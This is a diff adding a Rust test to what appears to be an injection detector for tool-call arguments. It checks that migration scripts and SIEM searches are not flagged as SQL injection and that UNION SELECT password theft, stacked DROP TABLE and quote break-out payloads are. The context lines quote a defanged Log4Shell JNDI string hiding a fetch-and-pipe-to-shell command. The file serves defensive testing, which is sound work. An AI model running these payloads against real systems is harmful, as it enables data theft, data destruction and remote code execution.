@@ -5534,3 +5534,32 @@ fn jndi_lookups_that_carry_a_command() {
     let defanged = json!({"entry": "2024-11-18T09:12:44Z WARN waf blocked User-Agent: ${jndi:ldap://45.155.205[.]233:12344/Basic/Command/Base64/Y3VybCAyMDMuMC4xMTMuOTkvbHxzaA==}"});
     assert!(top_call("logs.annotate", &defanged, Family::ShellInjection).is_none_or(|c| c < Confidence::Medium));
 }
+
+/// A value that opens with a statement that is no read (a migration's
+/// `down`: `DROP OWNED BY r; DROP ROLE r;`) is a script, and the quoted
+/// terms of a log search language (Splunk, KQL, Lucene) are strings it
+/// looks for: neither is a stacked or injected statement. A break-out from
+/// a value and a destructive statement after a read are still flagged.
+#[test]
+fn migration_scripts_and_siem_search_terms_are_not_injections() {
+    let legit = [
+        ("db.migrate", json!({"migration_id": "20260511_reporting_role", "down": "DROP OWNED BY reporting_ro; DROP ROLE reporting_ro;"})),
+        (
+            "siem.search",
+            json!({"engine": "splunk", "query": "index=waf sourcetype=aws:waf action=BLOCK (\"UNION SELECT\" OR \"' OR 1=1\" OR \"SLEEP(\") | stats count by clientIp | sort -count"}),
+        ),
+        ("siem.search", json!({"query": "SecurityEvent | where CommandLine has \"' OR 1=1\" | summarize count() by Computer"})),
+    ];
+    for (tool, p) in &legit {
+        assert!(top_call(tool, p, Family::SqlInjection).is_none_or(|c| c < Confidence::Medium), "{p}");
+    }
+    let attacks = [
+        ("users.search", json!({"name": "x'; DROP TABLE users;--"})),
+        ("users.search", json!({"q": "SELECT * FROM t WHERE id = 1; DROP TABLE users"})),
+        ("shop.search", json!({"query": "shoes' UNION SELECT username, password FROM users--"})),
+        ("siem.search", json!({"query": "index=web | where user=\"x\" | stats count' UNION SELECT password FROM users--"})),
+    ];
+    for (tool, p) in &attacks {
+        assert!(top_call(tool, p, Family::SqlInjection).is_some_and(|c| c >= Confidence::Medium), "{p}");
+    }
+}
